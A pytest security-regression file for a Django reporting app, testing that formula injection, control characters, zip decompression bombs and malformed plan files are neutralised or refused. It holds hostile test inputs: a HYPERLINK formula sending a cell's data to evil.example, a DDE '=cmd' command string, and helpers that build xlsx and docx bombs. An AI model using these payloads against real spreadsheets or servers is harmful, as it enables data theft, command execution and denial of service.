"""Issue #16, items 6, 7 (export half), 8 and 9: the attack run's files, replayed.

* formula injection — text typed as ``=HYPERLINK(…)`` came back in the exported .xlsx as a live formula;
* control characters — one old value holding U+0001 / U+000B made the xlsx and docx exports answer 500;
* decompression bomb — a 9.8 MB .xlsx expanding to 1.1 GB took 28 s of CPU to reject;
* plan import — no size limit, and 十十 or 2020年13月40日 answered 500.
"""

import io
import random
import re
import time
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from docx import Document
from openpyxl import Workbook, load_workbook

import dudao.demo
from dudao import documents
from dudao.collection import excel
from dudao.collection.models import DataValue
from dudao.errors import DudaoError
from dudao.plans import parser, summary
from dudao.plans import services as plans
from dudao.plans.models import Plan, ProgressReport
from dudao.plans.parser import parse
from dudao.reports.builder import Case, Note, Paragraph, Report, Section, SignedStatement, Table
from dudao.reports.render import to_docx
from dudao.review import export
from dudao.review.rates import rates
from dudao.statistics import tables
from dudao.statistics.services import import_table

from .test_statistics import SOURCE

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
CONTROL = "第一段\x01第二段\x0b第三段\x1f完"  # what old rows can hold on both databases (PostgreSQL refuses NUL)


def sheet_xml(data: bytes, part: str = "xl/worksheets/sheet1.xml") -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(part).decode("utf-8")


# ----------------------------------------------------------------------------- 6. formula injection


@pytest.mark.parametrize("typed", FORMULAS)
def test_formula_typed_into_a_text_field_is_exported_as_text_not_a_formula(world, typed):
    old_value(world, "text_overview", typed)
    data = excel.school_template(world.sub_a)
    assert "<f>" not in sheet_xml(data)  # no formula anywhere in the sheet
    ws = load_workbook(io.BytesIO(data))[excel.SHEET]
    cell = next(row[4] for row in ws.iter_rows(min_row=2) if row[0].value == "text_overview")
    assert cell.data_type == "s" and cell.value == typed  # text, as typed: no apostrophe added to the data
    assert cell.quotePrefix  # Excel keeps it text when the cell is edited, as if typed with a leading '


def test_formula_in_a_template_comes_back_unchanged_when_uploaded_again(world):
    typed = "=1+1 是公式吗"
    old_value(world, "text_overview", typed)
    template = excel.school_template(world.sub_a)
    excel.import_school(world.sub_a, io.BytesIO(template), world.users["collector"])
    assert DataValue.objects.get(org=world.school_a, element__code="text_overview").value == typed


def test_formula_in_a_school_name_is_text_in_the_district_sheet_and_the_progress_export(world):
    world.school_a.name = "=cmd|' /C calc'!A0"
    world.school_a.save()
    district = excel.district_template(world.campaign, world.huangpu, world.users["district_clerk"])
    assert "<f>" not in sheet_xml(district)
    progress = export.workbook(rates(world.campaign, world.huangpu))
    with zipfile.ZipFile(io.BytesIO(progress)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in xml for xml in sheets)
    names = [c.value for ws in load_workbook(io.BytesIO(progress)) for row in ws.iter_rows() for c in row]
    assert world.school_a.name in names


def test_every_xlsx_export_appends_rows_through_the_one_helper():
    """A new export written with ``ws.append`` / ``cell.value =`` would bypass the escaping: grep for it."""
    src = Path(documents.__file__).parent
    offenders = []
    for path in src.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if "openpyxl" not in text or path.name == "documents.py":
            continue
        for n, line in enumerate(text.splitlines(), 1):
            if re.search(r"\b(ws|sheet|meta)\.append\(|\.value\s*=[^=]", line):
                offenders.append(f"{path.relative_to(src)}:{n}: {line.strip()}")
    assert offenders == []


# ----------------------------------------------------------------------------- 7. control characters, export half


def test_control_characters_in_old_values_do_not_crash_the_xlsx_export(world):
    old_value(world, "text_overview", CONTROL)
    ws = load_workbook(io.BytesIO(excel.school_template(world.sub_a)))[excel.SHEET]
    cell = next(row[4] for row in ws.iter_rows(min_row=2) if row[0].value == "text_overview")
    assert cell.value == "第一段第二段第三段完"
    type(world.school_a).objects.filter(pk=world.school_a.pk).update(name="甲\x01职业学校")  # old data, unchecked
    progress = load_workbook(io.BytesIO(export.workbook(rates(world.campaign, world.huangpu))))
    assert "甲职业学校" in [c.value for ws in progress for row in ws.iter_rows() for c in row]


def test_control_characters_in_old_texts_do_not_crash_the_report_docx():
    report = Report(
        title="质量年报\x01",
        org_code="3101010001",
        org_name="甲\x0b学校",
        level="school",
        period_code="2021",
        period_name="2021年",
        sections=[
            Section(
                "一",
                "基本情况\x02",
                1,
                [
                    Paragraph(CONTROL),
                    Table("1-1", "表\x03", ["项目\x04", "数值"], [["学生\x05", "1"]]),
                    Case(1, "案例\x06", CONTROL, "甲\x07学校"),
                    Note("注\x08"),
                ],
            )
        ],
        statements=[SignedStatement("甲学校", "校长\x0e", timezone.now(), "ab" * 32, "声明\x1f")],
        schools_total=1,
        schools_signed=1,
        generated_at=datetime(2022, 3, 1),
    )
    doc = Document(io.BytesIO(to_docx(report)))
    body = "\n".join(p.text for p in doc.paragraphs)
    assert "第一段第二段第三段完" in body and "声明" in body and "\x01" not in body
    assert doc.tables[0].rows[1].cells[0].text == "学生"
    assert report.sections[0].blocks[0].text == CONTROL  # the caller's report is left as it was


def test_control_characters_in_a_units_narrative_do_not_crash_the_plan_summary_docx(world):
    plan = plans.import_plan(parse(_seed()), 2020)
    task = plan.tasks.get(no=1)
    assignment = plans.assign(task, world.huangpu, "lead", timezone.localdate(), world.users["city_admin"])
    ProgressReport.objects.bulk_create(  # old data: no save signal, so today's input guard does not refuse it
        [
            ProgressReport(
                assignment=assignment,
                period="2020Q4",
                status="lagging",
                narrative=CONTROL,
                reported_by=world.users["district_reviewer"],
            )
        ]
    )
    body = "\n".join(p.text for p in Document(io.BytesIO(summary.to_docx(plan))).paragraphs)
    assert "第一段第二段第三段完" in body


def test_clean_text_keeps_tabs_and_line_breaks_and_drops_what_xml_cannot_hold():
    assert documents.clean_text("a\tb\nc\rd\x00e\x1ff\ufffeg\ud800h") == "a\tb\nc\rdefgh"


# ----------------------------------------------------------------------------- 8. decompression bomb


def workbook_bytes(rows=(("编码", "项目", "单位", "类型", "填报值"),)) -> bytes:
    wb = Workbook()
    wb.active.title = excel.SHEET
    for row in rows:
        wb.active.append(row)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def with_sheet(data: bytes, write_sheet, extra_entries: int = 0) -> bytes:
    """``data`` (an .xlsx) with its first sheet's XML replaced by what ``write_sheet(stream)`` writes."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with target.open(info.filename, "w", force_zip64=True) as stream:
                    write_sheet(stream)
            else:
                target.writestr(info, source.read(info))
        for n in range(extra_entries):
            target.writestr(f"customXml/item{n}.xml", "<a/>")
    return out.getvalue()


HEAD = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
TAIL = b"</sheetData></worksheet>"


def bomb(expanded_mb: int = 120) -> bytes:
    """An .xlsx whose sheet is ``expanded_mb`` MB of one repeated row (no <dimension>): a few hundred kB packed."""
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c><c><v>1</v></c></row>' * 1000

    def write(stream):
        stream.write(HEAD)
        for _ in range(expanded_mb * 2**20 // len(row)):
            stream.write(row)
        stream.write(TAIL)

    return with_sheet(workbook_bytes(), write)


def never_parsed(*args, **kwargs):
    raise AssertionError("the workbook was handed to openpyxl")


def timed(call):
    start = time.perf_counter()
    with pytest.raises(DudaoError) as info:
        call()
    return time.perf_counter() - start, str(info.value)


def test_decompression_bomb_is_refused_within_a_second_before_parsing(world, monkeypatch):
    data = bomb()
    assert (
        len(data) < 2 * 2**20 and sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(data)).infolist()) > 100 * 2**20
    )
    monkeypatch.setattr(excel, "load_workbook", never_parsed)
    monkeypatch.setattr(tables, "load_workbook", never_parsed)
    collector, admin = world.users["collector"], world.users["city_admin"]
    for call in (
        lambda: excel.import_school(world.sub_a, io.BytesIO(data), collector),
        lambda: excel.import_district(world.campaign, world.huangpu, io.BytesIO(data), world.users["district_clerk"]),
        lambda: import_table(SimpleUploadedFile("t.xlsx", data), source=SOURCE, period_code="2020", user=admin),
    ):
        seconds, message = timed(call)
        assert seconds < 1, seconds
        assert "压缩炸弹" in message


def test_decompression_bomb_uploaded_through_the_page_answers_422_within_a_second(world, client):
    data = bomb()
    client.force_login(world.users["collector"])
    client.get("/")  # the process's first request imports the URLconf and templates: not the upload's cost
    start = time.perf_counter()
    response = client.post(
        reverse("collection:school_upload", args=[world.sub_a.pk]), {"file": SimpleUploadedFile("bomb.xlsx", data)}
    )
    assert time.perf_counter() - start < 1
    assert response.status_code == 422 and "压缩炸弹" in response.content.decode()
    assert not DataValue.objects.exists()


def test_sheet_that_expands_too_far_without_a_telling_ratio_is_refused_by_its_total(world, monkeypatch):
    """Random numbers pack only a few times smaller: the ratio passes, the total expanded size does not."""
    rng = random.Random(16)

    def write(stream):
        stream.write(HEAD)
        for r in range(1, 30001):
            stream.write(f'<row r="{r}"><c r="A{r}"><v>{rng.random()}</v></c></row>'.encode())
        stream.write(TAIL)

    data = with_sheet(workbook_bytes(), write)
    monkeypatch.setattr(documents, "MAX_EXPANDED_BYTES", 2**20)
    monkeypatch.setattr(excel, "load_workbook", never_parsed)
    seconds, message = timed(lambda: excel.import_school(world.sub_a, io.BytesIO(data), world.users["collector"]))
    assert seconds < 1 and "解压后过大" in message


def test_sheet_declaring_more_rows_than_the_importer_takes_is_refused_unread(world, monkeypatch):
    rows = [("编码", "项目", "单位", "类型", "填报值")] + [("x", "", "", "", 1)] * (excel.MAX_UPLOAD_ROWS + 1)
    data = workbook_bytes(rows)
    monkeypatch.setattr(excel, "load_workbook", never_parsed)
    seconds, message = timed(lambda: excel.import_school(world.sub_a, io.BytesIO(data), world.users["collector"]))
    assert seconds < 1 and f"最多 {excel.MAX_UPLOAD_ROWS} 行" in message


def test_statistics_sheet_hiding_its_size_is_stopped_while_streaming(world, monkeypatch):
    def write(stream):  # no <dimension>, and the pre-parse count switched off: the reader's own count stops it
        stream.write(HEAD)
        for r in range(1, 101):
            stream.write(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>'.encode())
        stream.write(TAIL)

    data = with_sheet(workbook_bytes(), write)
    monkeypatch.setattr(tables, "MAX_SHEET_ROWS", 50)
    monkeypatch.setattr(documents, "check_sheet_dimensions", lambda *args, **kwargs: None)
    with pytest.raises(DudaoError, match="超过 50 行"):
        tables.read_rows(data, "t.xlsx")


def test_workbook_with_thousands_of_parts_is_refused_unread(world, monkeypatch):
    data = with_sheet(workbook_bytes(), lambda s: s.write(HEAD + TAIL), extra_entries=documents.MAX_ENTRIES)
    monkeypatch.setattr(excel, "load_workbook", never_parsed)
    with pytest.raises(DudaoError, match="部件"):
        excel.import_school(world.sub_a, io.BytesIO(data), world.users["collector"])


def test_docx_bomb_is_refused_before_python_docx_opens_it(tmp_path):
    doc = Document()
    doc.add_paragraph("一、总则")
    buffer = io.BytesIO()
    doc.save(buffer)
    out = io.BytesIO()
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, source.read(info))
        target.writestr("word/media/padding.xml", b" " * (200 * 2**20))
    path = tmp_path / "plan.docx"
    path.write_bytes(out.getvalue())
    start = time.perf_counter()
    with pytest.raises(DudaoError, match="压缩炸弹"):
        parser.parse_file(path)
    assert time.perf_counter() - start < 1


# ----------------------------------------------------------------------------- 9. plan import


def _seed() -> str:
    return (Path(dudao.demo.__file__).parent / "data" / "vocational_work_plan_2020.txt").read_text(encoding="utf-8")


def _line_of(text: str, needle: str) -> int:
    return next(n for n, line in enumerate(text.splitlines(), 1) if needle in line)


def test_plan_with_numeral_shi_shi_is_refused_with_its_line():
    text = _seed().replace("三、", "十十、", 1)
    with pytest.raises(DudaoError) as info:
        parse(text)
    assert info.value.locator == f"第 {_line_of(text, '十十、')} 行"
    assert "十十" in str(info.value) and str(info.value).startswith("第 ")


def test_plan_dated_2020_13_40_is_refused_with_its_line():
    text = _seed().replace("2020年3月11日", "2020年13月40日", 1)
    assert "2020年13月40日" in text
    with pytest.raises(DudaoError) as info:
        parse(text)
    assert info.value.locator == f"第 {_line_of(text, '2020年13月40日')} 行"
    assert "2020年13月40日" in str(info.value)


@pytest.mark.parametrize(
    "text, shown",
    [
        (_seed().replace("三、", "十十、", 1), "十十"),
        (_seed().replace("2020年3月11日", "2020年13月40日", 1), "2020年13月40日"),
    ],
)
def test_bad_plan_uploaded_through_the_page_is_a_message_never_a_500_and_saves_nothing(world, client, text, shown):
    client.force_login(world.users["city_admin"])
    upload = SimpleUploadedFile("plan.txt", text.encode("utf-8"))
    response = client.post("/plans/import/", {"year": "2020", "file": upload}, follow=True)
    page = response.content.decode()
    assert response.status_code == 200 and shown in page and re.search(r"第 \d+ 行", page)
    assert not Plan.objects.exists()


def test_oversized_plan_is_refused_before_it_is_copied_or_read(world, client):
    client.force_login(world.users["city_admin"])
    upload = SimpleUploadedFile("plan.txt", b"1" * (parser.MAX_FILE_BYTES + 1))
    response = client.post("/plans/import/", {"year": "2020", "file": upload}, follow=True)
    assert response.status_code == 200 and "文件过大" in response.content.decode()
    assert not Plan.objects.exists()


def test_impossible_date_in_a_parsed_plan_is_refused_by_the_service_too():
    parsed = parse(_seed())
    parsed.date = "2020-13-40"
    with pytest.raises(DudaoError, match="不存在"):
        plans.import_plan(parsed, 2020)
    assert not Plan.objects.exists()


def old_value(world, code, text):
    """A value stored before input was checked (written straight to the table, as old data was)."""
    element = next(m.element for m in world.dataset.members.select_related("element") if m.element.code == code)
    # bulk_create: no save signal, so the input guard of today (dudao.inputs) does not stop yesterday's data
    DataValue.objects.bulk_create(
        [DataValue(element=element, period=world.campaign.period, org=world.school_a, value=text)]
    )


def test_sheet_hiding_its_size_is_counted_unparsed_and_refused_within_a_second(world, monkeypatch):
    rows = excel.MAX_UPLOAD_ROWS + 1

    def write(stream):  # no <dimension>, and numbers that pack only ~10-fold: neither ratio nor range tells
        stream.write(HEAD)
        for r in range(1, rows + 1):
            stream.write(f'<row r="{r}"><c r="A{r}"><v>{r * 7919 % 10007}</v></c></row>'.encode())
        stream.write(TAIL)

    data = with_sheet(workbook_bytes(), write)
    monkeypatch.setattr(excel, "load_workbook", never_parsed)
    seconds, message = timed(lambda: excel.import_school(world.sub_a, io.BytesIO(data), world.users["collector"]))
    assert seconds < 1 and f"{rows} 行" in message
